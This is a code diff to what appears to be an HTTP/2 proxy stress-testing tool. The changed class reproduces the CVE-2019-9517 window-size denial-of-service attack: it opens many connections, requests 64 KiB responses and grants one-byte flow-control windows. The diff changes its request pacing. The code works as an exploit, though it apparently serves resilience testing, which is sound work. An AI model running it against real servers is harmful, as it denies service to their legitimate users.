@@ -148,18 +148,18 @@ class EmptyData(Http2):
 
 
 class Windows(Http2):
-    """CVE-2019-9517: up to 100 answers of 64 KiB a connection, and no window to send them in but a byte a second. Five are asked for at a
-    time: a hundred requests at once would keep the good client waiting whatever becomes of their answers."""
-    conns, opens_per_second = 50, 5
+    """CVE-2019-9517: up to 100 answers of 64 KiB a connection, and no window to send them in but a byte a second. One is asked for at a time:
+    bursts of them would keep the good client waiting for the upstream, whatever becomes of their answers."""
+    conns, opens_per_second, every = 50, 5, TICK
     asked = block("GET", proxies.sized_path(64))
 
     def first(self):
         return greeting((4, 0))
 
     def again(self, turn):
-        fresh = range(turn * 10 + 1, turn * 10 + 11, 2) if turn < 20 else ()
-        turned = range(turn % 10 * 2 + 1, min(turn, 20) * 10, 20)
-        return b"".join([frame(HEADERS, 5, s, self.asked) for s in fresh] + [frame(WINDOW, 0, s, struct.pack(">I", 1)) for s in turned])
+        fresh = frame(HEADERS, 5, turn * 2 + 1, self.asked) if turn < 100 else b""
+        turned = range(turn % 50 * 2 + 1, min(turn, 100) * 2, 100)
+        return fresh + b"".join(frame(WINDOW, 0, s, struct.pack(">I", 1)) for s in turned)
 
 
 ATTACKS = {
